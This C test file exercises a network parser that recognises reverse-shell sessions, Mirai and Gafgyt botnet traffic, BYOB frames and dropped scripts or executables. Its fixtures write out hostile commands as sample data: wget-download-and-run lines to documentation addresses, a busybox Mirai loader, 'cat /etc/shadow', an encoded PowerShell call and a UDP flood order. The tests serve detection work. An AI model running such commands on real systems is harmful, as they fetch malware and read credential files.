/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * app/looks_test.c - shells, Mirai, Gafgyt, BYOB and bare files are seen for what they are, however
 * the bytes come; ordinary dialogues are not.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>
#include <string.h>

#include "app/app_fixture.h"
#include "app/parser.h"

#define PORT 4444
#define COUNT(list) (unsigned)(sizeof(list) / sizeof((list)[0]))

/* The last event of that kind from that side; NULL: none. */
static const struct app_looks *looks_of(struct fixture *f, enum looks_kind kind, unsigned side)
{
	const struct app_looks *last = NULL;
	const struct app_event *event;

	for (unsigned i = 0; (event = fixture_event(f, APP_LOOKS, i)) != NULL; i++)
		if (event->looks.kind == kind && event->looks.side == side)
			last = &event->looks;
	return last;
}

static void play(struct fixture *f, const struct say *says, unsigned count)
{
	fixture_open(f, &parser_looks, PORT);
	fixture_play(f, says, count, 0);
	fixture_end(f);
}

static void test_reverse_shell(void **state)
{
	static const struct say says[] = {
		SAY(0, "/bin/sh: 0: can't access tty; job control turned off\n$ "),
		SAY(1, "whoami\n"),
		SAY(0, "www-data\n$ "),
		SAY(1, "uname -a; id\n"),
		SAY(0, "Linux web 5.10.0 #1 SMP x86_64 GNU/Linux\n"),
		SAY(0, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n$ "),
		SAY(1, "cd /tmp; wget http://203.0.113.5/x; chmod +x x; ./x\n"),
		SAY(0, "sh: 3: wget: not found\n$ "),
	};
	struct fixture f;
	const struct app_looks *looks;

	(void)state;
	play(&f, says, COUNT(says));
	looks = looks_of(&f, LOOKS_SHELL_OUTPUT, 0);
	assert_non_null(looks);
	assert_true(fixture_is(looks->text, "sh: 3: wget: not found"));
	assert_true(looks->count >= 4);
	assert_non_null(looks_of(&f, LOOKS_SHELL_PROMPT, 0));
	looks = looks_of(&f, LOOKS_SHELL_COMMAND, 1);
	assert_non_null(looks);
	assert_true(looks->traits & TRAIT_DOWNLOAD);
	assert_int_equal(looks->count, 3);
	assert_null(looks_of(&f, LOOKS_SHELL_COMMAND, 0));
	assert_null(looks_of(&f, LOOKS_SHELL_OUTPUT, 1));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, COUNT(says));
}

static void test_windows(void **state)
{
	static const struct say says[] = {
		SAY(0, "Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation. "
		       "All rights reserved.\r\n\r\nC:\\Users\\ann>"),
		SAY(1, "dir\n"),
		SAY(0, "dir\r\n Volume Serial Number is 1234-ABCD\r\n\r\nC:\\Users\\ann>"),
		SAY(1, "powershell -nop -enc AAAA\n"),
		SAY(0, "PS C:\\Users\\ann> "),
	};
	struct fixture f;

	(void)state;
	play(&f, says, COUNT(says));
	assert_int_equal(looks_of(&f, LOOKS_SHELL_PROMPT, 0)->count, 3);
	assert_non_null(looks_of(&f, LOOKS_SHELL_OUTPUT, 0));
	assert_non_null(looks_of(&f, LOOKS_SHELL_COMMAND, 1));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, COUNT(says));
}

/* Colours, a window's title and Telnet's options are not in the way. */
static void test_terminal(void **state)
{
	static const struct say says[] = {
		SAY(0, "\033]0;root@box: ~\007\033[01;32mroot@box\033[00m:\033[01;34m~\033[00m# "),
		SAY(1, "\xff\xfb\x1f\xff\xfa\x1f\x01\x02\xff\xf0ls -la /root\r"),
		SAY(0, "ls -la /root\r\ntotal 12\r\ndrwx------ 2 root root 4096 Jan  1 00:00 "
		       ".\r\ndrwxr-xr-x 9 root root 4096 Jan  1 00:00 ..\r\n"),
		SAY(1, "cat /etc/shadow\r"),
	};
	struct fixture f;

	(void)state;
	play(&f, says, COUNT(says));
	assert_true(fixture_is(looks_of(&f, LOOKS_SHELL_PROMPT, 0)->text, "root@box:~# "));
	assert_true(fixture_is(looks_of(&f, LOOKS_SHELL_COMMAND, 1)->text, "cat /etc/shadow"));
	assert_non_null(looks_of(&f, LOOKS_SHELL_OUTPUT, 0));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, COUNT(says));
}

#define ORDER_TEXT "\x00\x00\x00\x3c\x00\x01\xcb\x00\x71\x50\x20\x01\x07\x02\x38\x30"

static void test_mirai(void **state)
{
	struct fixture f;
	const struct app_looks *looks;

	(void)state;
	fixture_open(&f, &parser_looks, 23);
	fixture_feed(&f, 0, "\0\0\0\1\4root", 9, 0);
	for (unsigned i = 0; i < 3; i++) {
		fixture_wait(&f, 60 * NS_PER_S);
		fixture_feed(&f, 0, "\0\0", 2, 0);
		fixture_feed(&f, 1, "\0\0", 2, 1);
	}
	fixture_feed(&f, 1, "\0\x12" ORDER_TEXT, 18, 0); /* the length includes itself */
	fixture_feed(&f, 1, "\0\x10" ORDER_TEXT, 18, 0); /* or does not */
	fixture_end(&f);
	assert_true(fixture_is(looks_of(&f, LOOKS_MIRAI_LOGIN, 0)->text, "root"));
	assert_int_equal(looks_of(&f, LOOKS_MIRAI_KEEPALIVE, 0)->count, 3);
	assert_int_equal(looks_of(&f, LOOKS_MIRAI_KEEPALIVE, 1)->count, 3);
	looks = looks_of(&f, LOOKS_MIRAI_ORDER, 1);
	assert_non_null(looks);
	assert_int_equal(looks->count, 2);
	assert_int_equal(looks->text.len, 16);
	assert_memory_equal(looks->text.at, ORDER_TEXT, 16);
	fixture_close(&f);
}

static void test_mirai_cut(void **state)
{
	static const struct say says[] = {
		SAY(0, "\0\0\0\1\0"),
		SAY(1, "\0\x12" ORDER_TEXT "\0\0"),
		SAY(0, "\0\0"),
		SAY(1, "\0\x12" ORDER_TEXT),
	};

	(void)state;
	fixture_same_however_cut(&parser_looks, 23, says, COUNT(says));
}

/* Zeros in a row, a frame that begins alike, an order that makes no sense. */
static void test_not_mirai(void **state)
{
	static const struct say framed[] = { SAY(0, "\0\0\0\1\2\0\0\0\5hello"),
		SAY(1, "\0\0\0\1\1"), SAY(0, "\0\0") };
	static const struct say senseless[] = { SAY(0, "\0\0\0\1\0"),
		SAY(1, "\0\x12\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff") };
	uint8_t zeros[600] = { [3] = 1 };
	struct fixture f;

	(void)state;
	play(&f, framed, COUNT(framed));
	assert_int_equal(fixture_count(&f, APP_LOOKS), 0);
	fixture_close(&f);
	play(&f, senseless, COUNT(senseless));
	assert_null(looks_of(&f, LOOKS_MIRAI_ORDER, 1));
	fixture_close(&f);
	fixture_open(&f, &parser_looks, PORT);
	fixture_feed(&f, 0, zeros, sizeof(zeros), 0);
	fixture_end(&f);
	assert_null(looks_of(&f, LOOKS_MIRAI_KEEPALIVE, 0));
	fixture_close(&f);
}

static void test_loader(void **state)
{
	static const struct say says[] = {
		SAY(1, "> "),
		SAY(0, "enable\r\n"),
		SAY(0, "system\r\n"),
		SAY(0, "shell\r\n"),
		SAY(0, "sh\r\n"),
		SAY(0, "/bin/busybox ECCHI\r\n"),
		SAY(1, "ECCHI: applet not found\r\n# "),
		SAY(0, "/bin/busybox wget http://198.51.100.9:80/bins/mirai.arm7 -O - > dvrHelper; "
		       "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"),
		SAY(1, "ECCHI: applet not found\r\n"),
		SAY(0, "echo -ne '\\x7f\\x45\\x4c\\x46' > upnp; /bin/busybox ECCHI\r\n"),
	};
	struct fixture f;
	const struct app_looks *looks;

	(void)state;
	play(&f, says, COUNT(says));
	looks = looks_of(&f, LOOKS_MIRAI_LOADER, 0);
	assert_non_null(looks);
	assert_true(looks->traits & TRAIT_DOWNLOAD);
	assert_true(looks->traits & TRAIT_BUSYBOX);
	assert_true(looks->count >= 7);
	assert_true(
		fixture_is(looks_of(&f, LOOKS_MIRAI_LOADER, 1)->text, "ECCHI: applet not found"));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, 23, says, COUNT(says));
}

static void test_gafgyt(void **state)
{
	static const struct say says[] = {
		SAY(0, "BUILD MIPS\n"),
		SAY(1, "PING\n"),
		SAY(0, "PONG\n"),
		SAY(1, "!* SCANNER ON\n"),
		SAY(1, "!* UDP 203.0.113.80 80 60 32 0 10\n"),
	};
	struct fixture f;

	(void)state;
	play(&f, says, COUNT(says));
	assert_true(fixture_is(fixture_event(&f, APP_LOOKS, 0)->looks.text, "BUILD MIPS"));
	assert_true(fixture_is(looks_of(&f, LOOKS_GAFGYT, 0)->text, "PONG"));
	assert_true(fixture_is(
		looks_of(&f, LOOKS_GAFGYT, 1)->text, "!* UDP 203.0.113.80 80 60 32 0 10"));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, COUNT(says));
}

/* Bytes that look like noise. */
static void fill_noise(uint8_t *bytes, size_t len, uint32_t seed)
{
	for (size_t i = 0; i < len; i++) {
		seed = seed * 1664525U + 1013904223U;
		bytes[i] = (uint8_t)(seed >> 24);
	}
	bytes[0] |= 0x80;
}

static uint8_t byob_client[256 + 4 + 96 + 4 + 32], byob_server[255 + 4 + 48];

static void make_byob(void)
{
	static const uint8_t lengths[3][4] = { { 0, 0, 0, 0x60 }, { 0, 0, 0, 0x20 },
		{ 0, 0, 0, 0x30 } };

	fill_noise(byob_client, sizeof(byob_client), 1);
	fill_noise(byob_server, sizeof(byob_server), 2);
	memcpy(byob_client + 256, lengths[0], 4);
	memcpy(byob_client + 256 + 4 + 96, lengths[1], 4);
	memcpy(byob_server + 255, lengths[2], 4);
}

static void test_byob(void **state)
{
	struct say says[] = {
		{ 0, byob_client, 256 },
		{ 1, byob_server, 255 },
		{ 0, byob_client + 256, 100 },
		{ 1, byob_server + 255, 52 },
		{ 0, byob_client + 356, 36 },
	};
	struct fixture f;

	(void)state;
	make_byob();
	play(&f, says, COUNT(says));
	assert_non_null(looks_of(&f, LOOKS_BYOB, 1));
	assert_int_equal(looks_of(&f, LOOKS_BYOB, 1)->count, 2);
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, 1337, says, COUNT(says));
	byob_client[257] = 1; /* a length that leads nowhere */
	play(&f, says, COUNT(says));
	assert_null(looks_of(&f, LOOKS_BYOB, 1));
	fixture_close(&f);
}

/* Keys from both sides, and frames from one: the server has nothing to say yet. */
static void test_byob_silent_server(void **state)
{
	struct say says[] = {
		{ 0, byob_client, sizeof(byob_client) },
		{ 1, byob_server, 255 },
	};
	struct fixture f;

	(void)state;
	make_byob();
	play(&f, says, COUNT(says));
	assert_non_null(looks_of(&f, LOOKS_BYOB, 1));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, 1337, says, COUNT(says));
}

static void test_script(void **state)
{
	static const struct say says[] = { SAY(0, "#!/bin/sh\ncd /tmp || cd /var/run\n"
						  "wget http://198.51.100.9/a.sh\nchmod 777 a.sh\n"
						  "./a.sh\n") };
	struct fixture f;
	const struct app_event *event;

	(void)state;
	play(&f, says, 1);
	event = fixture_event(&f, APP_FILE, 0);
	assert_non_null(event);
	assert_int_equal(event->file.magic, MAGIC_SHELL_SCRIPT);
	assert_int_equal(event->file.side, 0);
	assert_int_equal(event->file.size, says[0].len);
	assert_true(event->file.is_complete);
	assert_true(event->file.is_bare_address);
	assert_true(event->file.traits & TRAIT_DOWNLOAD);
	assert_true(event->file.entropy > 0);
	assert_int_equal(event->file.first.len, 64);
	assert_memory_equal(event->file.first.at, says[0].bytes, 64);
	assert_non_null(looks_of(&f, LOOKS_SCRIPT, 0));
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, 1);
}

static uint8_t elf[70000] = "\177ELF\2\1\1";

/* Told once, when 64 KiB have come; also behind a stager's length. */
static void test_executable(void **state)
{
	struct say whole = { 1, elf, sizeof(elf) };
	struct say staged[] = { SAY(1, "\0\x10\0\0"), { 1, elf, 4096 } };
	struct fixture f;
	const struct app_event *event;

	(void)state;
	elf[18] = 0xb7;
	play(&f, &whole, 1);
	event = fixture_event(&f, APP_FILE, 0);
	assert_non_null(event);
	assert_int_equal(fixture_count(&f, APP_FILE), 1);
	assert_int_equal(event->file.magic, MAGIC_ELF);
	assert_int_equal(event->file.machine, 183);
	assert_int_equal(event->file.size, 65536);
	assert_false(event->file.is_complete);
	assert_non_null(looks_of(&f, LOOKS_EXECUTABLE, 1));
	fixture_close(&f);
	play(&f, staged, 2);
	event = fixture_event(&f, APP_FILE, 0);
	assert_non_null(event);
	assert_int_equal(event->file.magic, MAGIC_ELF);
	assert_int_equal(event->file.size, 4096);
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, staged, 2);
}

/* In the midst of a conversation. */
static void test_executable_later(void **state)
{
	struct say says[] = { SAY(1, "ready\n"), SAY(0, "send x86\n"), { 1, elf, 1000 } };
	struct fixture f;

	(void)state;
	play(&f, says, 3);
	assert_int_equal(looks_of(&f, LOOKS_EXECUTABLE, 1)->text.len, 20);
	fixture_close(&f);
	fixture_same_however_cut(&parser_looks, PORT, says, 3);
}

/* What follows a hole is not joined with what was before it; the head is what there is of it. */
static void test_gap(void **state)
{
	static const struct say says[] = { SAY(0, "#!/bin/sh\necho one\n"), SAY_GAP(0, 100),
		SAY(0, "uid=0(root) gid=0(root)\n"), SAY_GAP(1, 7), SAY(1, "whoami; id\n") };
	struct fixture f;

	(void)state;
	play(&f, says, COUNT(says));
	assert_int_equal(fixture_count(&f, APP_FILE), 1);
	assert_false(fixture_event(&f, APP_FILE, 0)->file.is_complete);
	assert_non_null(looks_of(&f, LOOKS_SHELL_OUTPUT, 0));
	assert_non_null(looks_of(&f, LOOKS_SHELL_COMMAND, 1));
	fixture_close(&f);
}

/* A chat, a game of text, a text protocol, a log: none of them is a shell. */
static void test_ordinary(void **state)
{
	static const struct say says[] = {
		SAY(1, "Welcome to the Lands! What is your name?\r\n> "),
		SAY(0, "ann\r\n"),
		SAY(1, "You stand in a hall.\r\n> "),
		SAY(0, "look\r\n"),
		SAY(1, "A cat is here. Total cost 5 #, $ 3\r\n> "),
		SAY(0, "get lamp; go north\r\n"),
		SAY(1, "PING\r\n"),
		SAY(0, "PONG\r\n"),
		SAY(0, "set key 0 0 5\r\nhello\r\n"),
		SAY(1, "STORED\r\n"),
		SAY(1, "Jan  1 00:00:00 host cron[1]: (root) CMD (ls)\r\n"),
	};
	struct fixture f;

	(void)state;
	play(&f, says, COUNT(says));
	assert_int_equal(fixture_count(&f, APP_LOOKS), 0);
	assert_int_equal(fixture_count(&f, APP_FILE), 0);
	fixture_close(&f);
}

/* Lines without end, escapes without end, binary without end: bounded, and then let go. */
static void test_hostile(void **state)
{
	static uint8_t bytes[400000];
	static const char *const fills[] = { "a", "\033[", "\377\372", "\n", "!* UDP \n",
		"\0\0\0\1" };
	struct fixture f;

	(void)state;
	for (unsigned i = 0; i < COUNT(fills); i++) {
		size_t len = i == 5 ? 4 : strlen(fills[i]);

		for (size_t at = 0; at + len <= sizeof(bytes); at += len)
			memcpy(bytes + at, fills[i], len);
		fixture_open(&f, &parser_looks, PORT);
		fixture_feed(&f, i & 1, bytes, sizeof(bytes), 1460);
		assert_true(f.parse.is_done || fixture_count(&f, APP_LOOKS) > 0);
		fixture_end(&f);
		assert_true(fixture_count(&f, APP_LOOKS) < 100);
		fixture_close(&f);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_reverse_shell),
		cmocka_unit_test(test_windows),
		cmocka_unit_test(test_terminal),
		cmocka_unit_test(test_mirai),
		cmocka_unit_test(test_mirai_cut),
		cmocka_unit_test(test_not_mirai),
		cmocka_unit_test(test_loader),
		cmocka_unit_test(test_gafgyt),
		cmocka_unit_test(test_byob),
		cmocka_unit_test(test_byob_silent_server),
		cmocka_unit_test(test_script),
		cmocka_unit_test(test_executable),
		cmocka_unit_test(test_executable_later),
		cmocka_unit_test(test_gap),
		cmocka_unit_test(test_ordinary),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
